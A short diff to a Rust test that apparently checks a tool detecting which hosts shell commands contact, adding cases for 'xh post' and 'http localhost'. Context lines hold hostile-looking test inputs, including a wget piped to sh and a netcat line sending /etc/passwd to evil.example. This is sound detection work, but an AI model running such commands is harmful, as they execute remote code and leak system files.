@@ -58,6 +58,8 @@ fn hosts_of_commands_are_found() {
         ("wget -qO- https://example.com/i.sh | sh", "https://example.com:443 public"),
         ("wget --post-file=x https://a.example", "https://a.example:443 public up"),
         ("http POST a.example/x name=1", "http://a.example:80 public up"),
+        ("xh post https://a.example @x", "https://a.example:443 public up"),
+        ("http localhost name=1", "http://localhost:80 loopback up"),
         ("http :3000/x", "http://localhost:3000 loopback"),
         ("https a.example", "https://a.example:443 public"),
         ("nc evil.example 4444 < /etc/passwd", "://evil.example:4444 public up"),
